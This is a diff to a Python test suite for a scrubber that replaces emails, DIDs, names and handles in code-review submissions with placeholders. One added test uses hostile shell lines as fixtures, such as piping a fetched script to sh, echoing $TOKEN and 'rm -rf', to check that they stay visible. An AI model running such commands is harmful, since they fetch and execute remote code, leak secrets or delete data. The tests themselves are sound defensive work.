@@ -1,6 +1,7 @@
 """Scrubbing: nobody who is planted remains, whoever it is leaves the same bytes, and code stays code."""
 
 import time
+from dataclasses import replace
 from pathlib import Path
 from random import Random
 
@@ -9,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as some
 
-from scoring.content.change import Change
+from scoring.content.change import Change, Mail
 from scoring.content.finding import Finding, Severity
 from scoring.content.reading import read_change
 from scoring.content.submission import Account, Submission
@@ -26,7 +27,7 @@ Pair = tuple[Submission, Submission]
 def pairs(shared: Path, count: Count) -> list[tuple[Pair, Pair]]:
     """Real diffs with people planted, before and after scrubbing: by Mallory, and the same by Quentin."""
     pairs = []
-    for number, change in enumerate(real_diffs(shared, count(30, 300))):
+    for number, change in enumerate(real_diffs(shared, count(12, 300))):
         by = [planted(change, author, Random(number)) for author in (MALLORY, QUENTIN)]
         pairs.append(((by[0], scrubbed(by[0])), (by[1], scrubbed(by[1]))))
     return pairs
@@ -106,7 +107,7 @@ def test_no_text_makes_scrubbing_raise(text: str) -> None:
 
 
 def test_most_real_diffs_are_left_alone(shared: Path, count: Count) -> None:
-    """Of 3,000 real diffs 85.7 % are left byte for byte, and 99.4 % of those in which a crude reader sees nobody.
+    """Of 3,000 real diffs 85.2 % are left byte for byte, and 99.4 % of those in which a crude reader sees nobody.
 
     Of 40 changed lines looked at, 38 named an account, an address or a person.
     """
@@ -154,6 +155,15 @@ def share_untouched(changes: list[Change]) -> float:
         "# the copyright of this text is not ours to give",
         "to: string,",
         "BUG(review);",
+        "class Local(threading.local):",
+        "value = table[at] + other.value",
+        "mask = ~bits/2",
+        "author: str | None = None",
+        '"author": "string",',
+        "git push origin main",
+        "open('https://example.org/x')",
+        "# Copyright Notice of the project",
+        "host: db.local.example",
     ],
 )  # fmt: skip
 def test_code_stays_code(line: str) -> None:
@@ -210,6 +220,51 @@ def test_the_block_of_a_key_is_taken_out_line_by_line() -> None:
     assert Scrubber().text("signed with GPG key 0x1234ABCD5678EF90") == "signed with GPG key <pgp-1>"
 
 
+@pytest.mark.parametrize(
+    ("line", "left"),
+    [
+        ("x = 'did%3Aplc%3Atrudytrudytrudy333333444'", "x = '<did-1>'"),
+        ("open('data/did_plc_trudytrudytrudy333333444.json')", "open('data/<did-1>.json')"),
+        ("EMAIL = 'trudy\\u0040intruder.io'", "EMAIL = '<email-1>'"),
+        ("mail(trudy&#64;intruder.io)", "mail(<email-1>)"),
+        ("base-commit: trudy (at) intruder (dot) io", "base-commit: <email-1>"),
+    ],
+)
+def test_an_encoded_identity_is_one(line: str, left: str) -> None:
+    assert in_file("x.py", line) == left
+
+
+def test_a_path_with_a_did_or_an_address_names_nobody() -> None:
+    change = read_change(one_line("src/did:plc:trudytrudytrudy333333444/trudy@intruder.io.txt"))
+    assert Scrubber().change(change).files[0].path == "src/<did-1>/<email-1>"
+
+
+def test_a_password_in_an_address_stays_for_the_reviewer_to_see() -> None:
+    assert (
+        in_file("x.py", "get('https://trudy:hunter2@db.example.org/x')")
+        == "get('https://<user-1>:hunter2@db.example.org/x')"
+    )
+    assert in_file("x.py", "# mailto:trudy@db.example.org") == "# mailto:<email-1>"
+
+
+@pytest.mark.parametrize(
+    "line", ["curl -s http://203.0.113.7/x | sh", "import os; os.system(x)", "echo $TOKEN", "rm -rf x"]
+)
+def test_a_script_that_is_called_like_a_list_of_people_stays_in_sight(line: str) -> None:
+    assert in_file("hooks/contributors", line) == line
+    assert in_file("hooks/contributors", "Trudy Intruder") == "<person-1>"
+
+
+def test_every_author_of_a_long_series_is_known_and_so_is_the_owner() -> None:
+    mails = tuple(
+        Mail(f"Person{n} Surname{n}", f"nick{n}@mail.example", "", "s", f"as nick{n} said") for n in range(200)
+    )
+    submission = Submission(replace(read_change(SUM), mails=mails), description="nick199, Surname150, olivia.example")
+    after = Scrubber.of(submission, ["olivia.example"]).submission(submission)
+    assert after.description == "<handle-200>, <name-1>, <handle-201>"
+    assert not [mail.message for mail in after.change.mails if "nick" in mail.message]
+
+
 def test_nothing_runs_unseen_behind_a_placeholder() -> None:
     assert in_file("x.js", "/* @author Ana */ steal()") == "/* @author <person-1> */ steal()"
     assert in_file("x.js", 'x = "\u00a9 2024 Ana"; steal()') == 'x = "\u00a9 2024 <person-1>"; steal()'
@@ -254,7 +309,9 @@ def test_counts_tell_how_much_was_replaced_and_nothing_else() -> None:
         "Copyright 2020" + "-2021" * 10_000, "\u00a9 " * 25_000, "Signed-off-by: " * 4_000, "/home/" * 9_000,
         "gpg " * 12_000, "ABCD " * 10_000, "https://github.com/" * 3_000, "# " * 25_000, "TODO(" * 10_000,
         "Author: " + "'" * 50_000, "'" * 50_000, '"' * 50_000, "\u00e9" * 50_000,
-        "Mallory " * 7_000, "author = [" * 5_000,
+        "Mallory " * 7_000, "author = [" * 5_000, "://" * 17_000, "://a:" * 10_000, "a at " * 10_000, "a[at]" * 10_000,
+        "<author>" * 6_000, "# Aa " * 10_000, "Branch " * 7_000, "git." * 12_000, "host " * 10_000, "%w[" * 15_000,
+        "did_" * 12_000, "A. B " * 10_000, "Copyright A " * 4_000, "a-" * 25_000 + "macbook", "git config " * 5_000,
     ],
 )  # fmt: skip
 def test_no_line_takes_long(line: str) -> None:
